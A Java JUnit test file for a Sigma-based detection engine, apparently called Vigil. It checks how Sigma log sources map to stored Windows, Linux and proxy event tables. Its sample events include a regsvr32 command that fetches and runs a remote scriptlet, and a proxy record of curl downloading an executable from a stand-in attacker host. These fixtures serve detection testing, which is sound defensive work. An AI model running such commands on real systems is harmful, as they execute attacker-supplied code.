package dev.vigil.sigma;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.vigil.ingest.AuditParser;
import dev.vigil.ingest.CefParser;
import dev.vigil.ingest.IngestDefaults;
import dev.vigil.ingest.IngestLimits;
import dev.vigil.ingest.JsonRecordParser;
import dev.vigil.ingest.JsonShape;
import dev.vigil.ingest.JsonShapes;
import dev.vigil.ingest.ParsedRecord;
import dev.vigil.ingest.RawRecord;
import dev.vigil.ingest.RecordParser;
import dev.vigil.ingest.SharedData;
import dev.vigil.ingest.SyslogParser;
import dev.vigil.model.ErrorCode;
import dev.vigil.model.SourcePosition;
import dev.vigil.model.VigilException;
import dev.vigil.sigma.LogSourceMap.Entry;
import dev.vigil.sigma.LogSourceMap.EntryTarget;
import dev.vigil.sigma.LogSourceMap.Target;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.snakeyaml.engine.v2.api.Load;
import org.snakeyaml.engine.v2.api.LoadSettings;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Specifies how a Sigma log source finds its stored events: lookup semantics, the built-in mapping's consistency,
 * that its targets select what ingest really stores, and that every Windows log source SigmaHQ's rules use has a
 * table.
 */
class LogSourceMapTest {

    private static final LogSourceMap MAP = LogSourceMap.builtIn();
    private static final String SYSMON = "Microsoft-Windows-Sysmon/Operational";
    private static final SourcePosition POSITION = new SourcePosition("test", 1, 0);
    private static final JsonMapper JSON = JsonMapper.builder().build();

    // --- lookup ------------------------------------------------------------------------------------------------

    @Test
    void process_creation_runs_on_sysmon_event_1_and_security_event_4688_under_4688s_field_names() {
        List<Target> targets = MAP.targets("windows", "process_creation", null);

        assertThat(targets).extracting(Target::table)
                .containsExactly("SysmonEvent", "SecurityEvent", "DeviceProcessEvents");
        Target sysmon = targets.get(0);
        assertThat(sysmon.conditions()).isEqualTo(Map.of("Channel", List.of(SYSMON), "EventID", List.of(1L)));
        assertThat(sysmon.fieldMap()).isEmpty();
        Target security = targets.get(1);
        assertThat(security.conditions()).isEqualTo(Map.of("EventID", List.of(4688L)));
        assertThat(security.field("Image")).isEqualTo("NewProcessName");
        assertThat(security.field("ParentImage")).isEqualTo("ParentProcessName");
        assertThat(security.field("ProcessId")).isEqualTo("NewProcessId");
        assertThat(security.field("ParentProcessId")).isEqualTo("ProcessId");
        assertThat(security.field("LogonId")).isEqualTo("SubjectLogonId");
        assertThat(security.field("CommandLine")).as("4688 names it as Sysmon does").isEqualTo("CommandLine");
        assertThat(targets.get(2).field("CommandLine")).isEqualTo("ProcessCommandLine");
    }

    @Test
    void a_service_narrows_a_category_to_the_targets_of_that_service() {
        assertThat(MAP.targets("windows", "process_creation", "sysmon")).extracting(Target::table)
                .containsExactly("SysmonEvent");
        assertThat(MAP.targets("windows", "process_creation", "security")).singleElement()
                .satisfies(t -> assertThat(t.conditions()).isEqualTo(Map.of("EventID", List.of(4688L))));
        assertThat(MAP.targets("linux", "process_creation", "auditd")).extracting(Target::table)
                .containsExactly("LinuxAudit", "LinuxAudit");
    }

    @Test
    void a_product_alone_runs_on_every_table_of_the_product_under_native_names() {
        List<Target> targets = MAP.targets("windows", null, null);

        assertThat(targets).containsExactly(
                new Target("SecurityEvent", Map.of(), Map.of()),
                new Target("SysmonEvent", Map.of("Channel", List.of(SYSMON)), Map.of()),
                new Target("WindowsEvent", Map.of(), Map.of()));
        assertThat(MAP.note("windows", null, null)).isEmpty();
    }

    @Test
    void a_service_alone_runs_on_its_whole_channel() {
        assertThat(MAP.targets("windows", null, "powershell")).containsExactly(new Target("WindowsEvent",
                Map.of("Channel", List.of("Microsoft-Windows-PowerShell/Operational", "PowerShellCore/Operational")),
                Map.of()));
        assertThat(MAP.targets("windows", null, "security")).containsExactly(
                new Target("SecurityEvent", Map.of(), Map.of()));
    }

    @Test
    void a_category_without_a_product_runs_on_every_products_sources_once() {
        List<Target> targets = MAP.targets(null, "process_creation", null);

        assertThat(targets).doesNotHaveDuplicates()
                .containsAll(MAP.targets("windows", "process_creation", null))
                .containsAll(MAP.targets("linux", "process_creation", null));
        assertThat(MAP.note(null, "process_creation", null)).hasValueSatisfying(note -> assertThat(note)
                .startsWith("{product: macos, category: process_creation}: Vigil stores no macOS"));
        assertThat(MAP.targets(null, "proxy", null)).extracting(Target::table)
                .containsExactly("ZeekHttp", "CommonSecurityLog");
    }

    @Test
    void windows_sysmon_targets_name_their_channel_since_sysmon_for_linux_shares_the_table() {
        for (Entry entry : MAP.entries()) {
            for (EntryTarget target : entry.targets()) {
                if (target.target().table().equals("SysmonEvent")) {
                    String channel = "windows".equals(entry.product()) ? SYSMON : "Linux-Sysmon/Operational";
                    assertThat(target.target().conditions().get("Channel")).as("line %d", entry.line())
                            .containsExactly(channel);
                }
            }
        }
    }

    @Test
    void attributes_compare_ignoring_case_and_blank_ones_are_absent() {
        assertThat(MAP.targets("Windows", "Process_Creation", " ")).isEqualTo(
                MAP.targets("windows", "process_creation", null));
    }

    @Test
    void a_product_no_table_holds_has_no_target_and_says_why() {
        assertThat(MAP.targets("okta", null, "okta")).isEmpty();
        assertThat(MAP.note("okta", null, "okta"))
                .hasValue("no table holds Okta System Log events; Vigil has no parser for them");
    }

    @Test
    void an_unknown_log_source_has_no_target_and_a_note_naming_it() {
        assertThat(MAP.targets("acme", "widget", null)).isEmpty();
        assertThat(MAP.note("acme", "widget", null))
                .hasValue("no table is known to hold events of log source {product: acme, category: widget}");
        assertThat(MAP.targets(null, null, null)).isEmpty();
        assertThat(MAP.note(null, null, null)).hasValue("the log source names no product, category or service");
    }

    @Test
    void a_service_that_none_of_a_categorys_sources_has_gets_a_note() {
        assertThat(MAP.targets("windows", "process_creation", "powershell")).isEmpty();
        assertThat(MAP.note("windows", "process_creation", "powershell"))
                .hasValue("no source of {product: windows, category: process_creation} is service powershell");
    }

    @Test
    void a_note_on_a_source_with_targets_says_what_the_engine_must_know() {
        assertThat(MAP.targets("linux", null, "auditd")).extracting(Target::table).containsExactly("LinuxAudit");
        assertThat(MAP.note("linux", null, "auditd")).hasValueSatisfying(note -> assertThat(note)
                .contains("RecordTypes").contains("EXECVE.a0"));
    }

    @Test
    void a_field_maps_to_itself_unless_mapped_and_is_looked_up_ignoring_case() {
        Target target = new Target("SecurityEvent", Map.of(), Map.of("Image", "NewProcessName"));

        assertThat(target.field("Image")).isEqualTo("NewProcessName");
        assertThat(target.field("image")).isEqualTo("NewProcessName");
        assertThat(target.field("CommandLine")).isEqualTo("CommandLine");
    }

    @Test
    void conditions_hold_integers_as_long_and_other_values_as_text() {
        LogSourceMap map = LogSourceMap.parse("""
                logsources:
                  - product: linux
                    category: process_creation
                    targets:
                      - table: LinuxAudit
                        conditions: {syscall: ['59', 59], EventID: 1, arch: c000003e}
                """, "t.yaml");

        assertThat(map.targets("linux", "process_creation", null)).singleElement().satisfies(t ->
                assertThat(t.conditions()).isEqualTo(Map.of("syscall", List.of("59", 59L), "EventID", List.of(1L),
                        "arch", List.of("c000003e"))));
    }

    static Stream<Arguments> malformed() {
        return Stream.of(
                Arguments.of("logsources:\n  - product: windows\n    targets: [{table: X}\n  - product: linux\n",
                        "t.yaml:4:3: invalid YAML: expected ',' or ']', but got - "
                                + "(while parsing a flow sequence that starts at line 3, column 14)"),
                Arguments.of("", "t.yaml: the document is empty"),
                Arguments.of("- product: windows\n", "t.yaml:1:1: the document must be a mapping of keys to values"),
                Arguments.of("sources: []\n", "t.yaml:1:1: unknown key 'sources' in the document"),
                Arguments.of("logsources:\n  - product: windows\n    tragets: []\n",
                        "t.yaml:3:5: unknown key 'tragets' in a log source"),
                Arguments.of("logsources:\n  - product: windows\n",
                        "t.yaml:2:5: log source {product: windows} has no 'targets'"),
                Arguments.of("logsources:\n  - note: why\n    targets: []\n",
                        "t.yaml:2:5: a log source needs a product, category or service"),
                Arguments.of("logsources:\n  - product: okta\n    targets: []\n",
                        "t.yaml:3:14: log source {product: okta} has no target and no 'note'"),
                Arguments.of("logsources:\n  - {product: windows, targets: [{table: WindowsEvent}]}\n"
                                + "  - {product: Windows, targets: [{table: SecurityEvent}]}\n",
                        "t.yaml:3:5: log source {product: windows} is given twice, first at line 2"),
                Arguments.of("logsources:\n  - product: windows\n    targets:\n      - conditions: {EventID: 1}\n",
                        "t.yaml:4:9: a target needs a 'table'"),
                Arguments.of("logsources:\n  - product: windows\n    targets:\n      - table: Security Event\n",
                        "t.yaml:4:16: 'Security Event' is not a table name"),
                Arguments.of("logsources:\n  - product: windows\n    service: sysmon\n    targets:\n"
                                + "      - {table: SysmonEvent, service: sysmon}\n",
                        "t.yaml:5:39: 'service' on a target narrows a category's targets, and this log source names"
                                + " no category"),
                Arguments.of("logsources:\n  - product: windows\n    category: network_connection\n    targets:\n"
                                + "      - {table: SysmonEvent, conditions: {Initiated: true}}\n",
                        "t.yaml:5:54: 'true' in the condition on 'Initiated' is a YAML bool; conditions compare "
                                + "text or integers"),
                Arguments.of("logsources:\n  - product: windows\n    category: process_creation\n    targets:\n"
                                + "      - {table: SysmonEvent, conditions: {EventID: []}}\n",
                        "t.yaml:5:52: the condition on 'EventID' allows no value"),
                Arguments.of("logsources:\n  - product: windows\n    category: process_creation\n    targets:\n"
                                + "      - {table: SysmonEvent, fields: {Image: [a, b]}}\n",
                        "t.yaml:5:46: 'fields.Image' must be text"));
    }

    @ParameterizedTest
    @MethodSource("malformed")
    void a_malformed_mapping_is_refused_naming_line_column_and_problem(String yaml, String message) {
        VigilException error = catchThrowableOfType(VigilException.class, () -> LogSourceMap.parse(yaml, "t.yaml"));

        assertThat(error).as("error for %s", yaml).isNotNull();
        assertThat(error.code()).isEqualTo(ErrorCode.CONFIG_INVALID);
        assertThat(error.getMessage()).isEqualTo(message);
        assertThat(error.fix()).isNotBlank();
    }

    // --- the built-in mapping's consistency ---------------------------------------------------------------------

    @Test
    void every_category_target_from_a_service_is_covered_by_that_services_entry() {
        for (Entry entry : MAP.entries()) {
            for (EntryTarget target : entry.targets()) {
                if (target.service() != null) {
                    assertThat(MAP.targets(entry.product(), null, target.service()))
                            .as("line %d: service %s covers %s", entry.line(), target.service(), target.target())
                            .anySatisfy(general -> assertThat(covers(general, target.target())).isTrue());
                }
            }
        }
    }

    @Test
    void every_service_target_is_covered_by_its_products_entry() {
        for (Entry entry : MAP.entries()) {
            if (entry.category() == null && entry.service() != null && entry.product() != null) {
                for (EntryTarget target : entry.targets()) {
                    assertThat(MAP.targets(entry.product(), null, null))
                            .as("line %d: product %s covers %s", entry.line(), entry.product(), target.target())
                            .anySatisfy(general -> assertThat(covers(general, target.target())).isTrue());
                }
            }
        }
    }

    /** Whether every event the specific target selects is also selected by the general one. */
    private static boolean covers(Target general, Target specific) {
        return general.table().equals(specific.table()) && general.conditions().entrySet().stream().allMatch(c -> {
            List<Object> narrower = specific.conditions().get(c.getKey());
            return narrower != null && narrower.stream().allMatch(value -> c.getValue().stream()
                    .anyMatch(allowed -> String.valueOf(allowed).equalsIgnoreCase(String.valueOf(value))));
        });
    }

    // --- the targets select what ingest stores -----------------------------------------------------------------

    @Test
    void security_4688_as_nxlog_writes_it_is_selected_and_carries_every_mapped_field() throws Exception {
        ParsedRecord event = json("""
                {"EventTime":"2020-07-21 23:27:52","Hostname":"WORKSTATION5.mordor.local","EventID":4688,
                 "SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","ProcessId":"0x21c8",
                 "SubjectUserName":"pgustavo","SubjectLogonId":"0x24579a8","NewProcessId":"0x24a8",
                 "NewProcessName":"C:\\\\Windows\\\\System32\\\\regsvr32.exe",
                 "ParentProcessName":"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
                 "CommandLine":"regsvr32.exe /s /n /u /i:http://10.10.10.5:8444/launcher.sct scrobj.dll"}""");
        Target security = MAP.targets("windows", "process_creation", "security").getFirst();

        assertThat(selects(security, event)).isTrue();
        assertThat(MAP.targets("windows", "process_creation", "sysmon")).noneMatch(t -> selects(t, event));
        security.fieldMap().values().forEach(stored -> assertThat(event.fields()).containsKey(stored));
        assertThat(event.fields()).containsKey(security.field("CommandLine"));
    }

    @Test
    void sysmon_network_connections_as_winlogbeat_writes_them_are_selected() throws Exception {
        ParsedRecord event = json("""
                {"@timestamp":"2024-05-01T10:00:00Z","winlog":{"channel":"Microsoft-Windows-Sysmon/Operational",
                 "event_id":"3","provider_name":"Microsoft-Windows-Sysmon","computer_name":"ws1",
                 "event_data":{"Image":"C:\\\\Windows\\\\System32\\\\svchost.exe","Initiated":"true",
                 "DestinationIp":"10.0.0.5","DestinationPort":"445"}}}""");

        assertThat(event.table()).isEqualTo("SysmonEvent");
        assertThat(MAP.targets("windows", "network_connection", null)).filteredOn(t -> selects(t, event))
                .extracting(Target::table).containsExactly("SysmonEvent");
        assertThat(MAP.targets("windows", null, "sysmon")).anyMatch(t -> selects(t, event));
    }

    @Test
    void sysmon_for_linux_is_selected_by_linux_log_sources_only() throws Exception {
        ParsedRecord event = json("""
                {"EventID":1,"Channel":"Linux-Sysmon/Operational","Provider_Name":"Linux-Sysmon","Computer":"UBUNTU5",
                 "Image":"/bin/bash","CommandLine":"bash -c id","ParentImage":"/usr/bin/java"}""");

        assertThat(event.table()).isEqualTo("SysmonEvent");
        assertThat(MAP.targets("linux", "process_creation", null)).anyMatch(t -> selects(t, event));
        assertThat(MAP.targets("windows", "process_creation", null)).noneMatch(t -> selects(t, event));
        assertThat(MAP.targets("windows", null, null)).noneMatch(t -> selects(t, event));
    }

    @Test
    void an_auditd_exec_is_a_linux_process_creation_with_its_image_and_directory() throws Exception {
        ParsedRecord event = parse(new AuditParser(), """
                type=SYSCALL msg=audit(1604996384.965:93777): arch=c000003e syscall=59 success=yes exit=0 \
                a0=558e25052c70 a1=558e251641a0 a2=558e25160800 a3=1b6 items=2 ppid=29002 pid=2168 auid=1000 \
                uid=1000 gid=1000 euid=1000 ses=104 comm="dd" exe="/bin/dd" key=(null)
                type=EXECVE msg=audit(1604996384.965:93777): argc=4 a0="dd" a1="if=/dev/zero" a2="bs=1" a3="count=1"
                type=CWD msg=audit(1604996384.965:93777): cwd="/home/wardog"
                """);
        Target exec = MAP.targets("linux", "process_creation", "auditd").getFirst();

        assertThat(selects(exec, event)).isTrue();
        assertThat(event.fields().get(exec.field("Image"))).isEqualTo("/bin/dd");
        assertThat(event.fields().get(exec.field("CurrentDirectory"))).isEqualTo("/home/wardog");
        assertThat(event.fields().get(exec.field("CommandLine"))).isEqualTo("dd if=/dev/zero bs=1 count=1");
        assertThat(event.fields()).containsKey("EXECVE.a0").containsEntry("a0", "558e25052c70");
    }

    @Test
    void sshd_syslog_is_selected_by_its_service() throws Exception {
        ParsedRecord event = parse(new SyslogParser(Clock.systemUTC(), ZoneOffset.UTC),
                "<38>Oct 10 12:34:56 web01 sshd[123]: Accepted password for bob from 1.2.3.4 port 22 ssh2");

        assertThat(MAP.targets("linux", null, "sshd")).singleElement().satisfies(t ->
                assertThat(selects(t, event)).isTrue());
        assertThat(MAP.targets("linux", null, "cron")).noneMatch(t -> selects(t, event));
        assertThat(MAP.targets("linux", null, "auth")).anyMatch(t -> selects(t, event));
    }

    @Test
    void a_cef_proxy_record_carries_the_fields_the_proxy_category_maps_to() throws Exception {
        ParsedRecord event = parse(new CefParser(), "CEF:0|Zscaler|NSSWeblog|5.0|Allowed|Allowed|3|"
                + "request=http://evil.example/a.exe requestMethod=GET requestClientApplication=curl/8.0 "
                + "dhost=evil.example src=10.0.0.7 dst=203.0.113.9 requestContext=http://ref.example/ "
                + "requestCookies=a\\=b");
        Target cef = MAP.targets(null, "proxy", null).stream()
                .filter(t -> t.table().equals("CommonSecurityLog")).findFirst().orElseThrow();

        assertThat(selects(cef, event)).isTrue();
        cef.fieldMap().values().forEach(stored -> assertThat(event.fields()).containsKey(stored));
    }

    private static ParsedRecord json(String text) throws Exception {
        String oneLine = JSON.readTree(text).toString();
        return parse(new JsonRecordParser(IngestLimits.DEFAULTS, new JsonShapes(IngestDefaults.DEFAULT_TABLE,
                JsonShape.AUTO)), oneLine);
    }

    private static ParsedRecord parse(RecordParser parser, String text) throws Exception {
        return parser.parse(new RawRecord(text.getBytes(StandardCharsets.UTF_8), POSITION));
    }

    /** Whether the target selects the event, as the detection stage compares: text, ignoring case. */
    private static boolean selects(Target target, ParsedRecord event) {
        return target.table().equals(event.table()) && target.conditions().entrySet().stream().allMatch(c -> {
            Object value = event.fields().get(c.getKey());
            return value != null && c.getValue().stream()
                    .anyMatch(allowed -> String.valueOf(allowed).equalsIgnoreCase(String.valueOf(value)));
        });
    }

    // --- conformance with SigmaHQ ------------------------------------------------------------------------------

    /**
     * Every log source of the SigmaHQ rule sets has an entry; every Windows one has a table. The other products'
     * log sources without a table are printed with their notes, for the import report to come.
     */
    @Test
    void every_windows_log_source_of_the_sigmahq_rules_has_a_target() throws IOException {
        Path sigma = SharedData.require("sigma", "https://github.com/SigmaHQ/sigma");
        Map<String, Integer> used = new TreeMap<>();
        for (String set : List.of("rules", "rules-emerging-threats", "rules-threat-hunting", "rules-dfir")) {
            try (Stream<Path> files = Files.walk(sigma.resolve(set))) {
                for (Path file : files.filter(f -> f.toString().endsWith(".yml")).toList()) {
                    logsources(file).forEach(ls -> used.merge(ls, 1, Integer::sum));
                }
            }
        }
        assertThat(used).hasSizeGreaterThan(100);

        List<String> windowsWithout = new ArrayList<>();
        List<String> otherWithout = new ArrayList<>();
        List<String> unknown = new ArrayList<>();
        for (Map.Entry<String, Integer> logsource : used.entrySet()) {
            String[] attributes = logsource.getKey().split("\\|", -1);
            String product = attributes[0].isEmpty() ? null : attributes[0];
            String category = attributes[1].isEmpty() ? null : attributes[1];
            String service = attributes[2].isEmpty() ? null : attributes[2];
            if (!MAP.targets(product, category, service).isEmpty()) {
                continue;
            }
            String line = "{" + LogSourceMap.describe(product, category, service) + "} (" + logsource.getValue()
                    + " rules): " + MAP.note(product, category, service).orElse("");
            if ("windows".equals(product)) {
                windowsWithout.add(line);
            } else {
                otherWithout.add(line);
            }
            if (MAP.note(product, category, service).orElse("").startsWith("no table is known")) {
                unknown.add(line);
            }
        }
        System.out.println("Log sources of SigmaHQ rules that no stored table holds:");
        otherWithout.forEach(line -> System.out.println("  " + line));

        assertThat(windowsWithout).as("Windows log sources without a table").isEmpty();
        assertThat(unknown).as("log sources the mapping does not mention").isEmpty();
    }

    /** Every event of SigmaHQ's regression tests is selected by a target of its rule's log source. */
    @Test
    void every_regression_event_is_selected_by_a_target_of_its_rules_log_source() throws Exception {
        Path sigma = SharedData.require("sigma", "https://github.com/SigmaHQ/sigma");
        JsonRecordParser parser = new JsonRecordParser(IngestLimits.DEFAULTS,
                new JsonShapes(IngestDefaults.DEFAULT_TABLE, JsonShape.AUTO));
        List<String> failures = new ArrayList<>();
        int tests = 0;
        for (String line : Files.readAllLines(sigma.resolve("regression_index.derived.jsonl"))) {
            if (line.isBlank()) {
                continue;
            }
            tests++;
            JsonNode test = JSON.readTree(line);
            String[] attributes = logsources(sigma.resolve(test.get("rule_path").asString())).getFirst()
                    .split("\\|", -1);
            List<Target> targets = MAP.targets(attributes[0], attributes[1], attributes[2]);
            JsonNode expected = test.get("match_count");
            long wanted = expected == null || expected.isNull() ? 1 : expected.asLong();
            long selected = 0;
            Path events = sigma.resolve(test.get("json_event_path").asString());
            try (var values = JSON.readerFor(JsonNode.class).<JsonNode>readValues(Files.readString(events))) {
                while (values.hasNext()) {
                    ParsedRecord event = parser.parse(new RawRecord(JSON.writeValueAsBytes(values.next()), POSITION));
                    if (targets.stream().anyMatch(t -> selects(t, event))) {
                        selected++;
                    }
                }
            }
            if (selected < wanted) {
                failures.add(test.get("rule_path").asString() + ": " + selected + " of " + wanted + " events");
            }
        }
        assertThat(tests).isGreaterThanOrEqualTo(200);
        assertThat(failures).isEmpty();
    }

    /** The log sources of a rule file's documents, as {@code product|category|service} with empty for absent. */
    private static List<String> logsources(Path file) throws IOException {
        List<String> found = new ArrayList<>();
        Load load = new Load(LoadSettings.builder().setLabel(file.toString()).build());
        for (Object document : load.loadAllFromString(Files.readString(file))) {
            if (document instanceof Map<?, ?> map && map.get("logsource") instanceof Map<?, ?> logsource) {
                found.add(String.join("|", attribute(logsource, "product"), attribute(logsource, "category"),
                        attribute(logsource, "service")));
            }
        }
        return found;
    }

    private static String attribute(Map<?, ?> logsource, String name) {
        return Optional.ofNullable(logsource.get(name)).map(Object::toString).orElse("");
    }
}
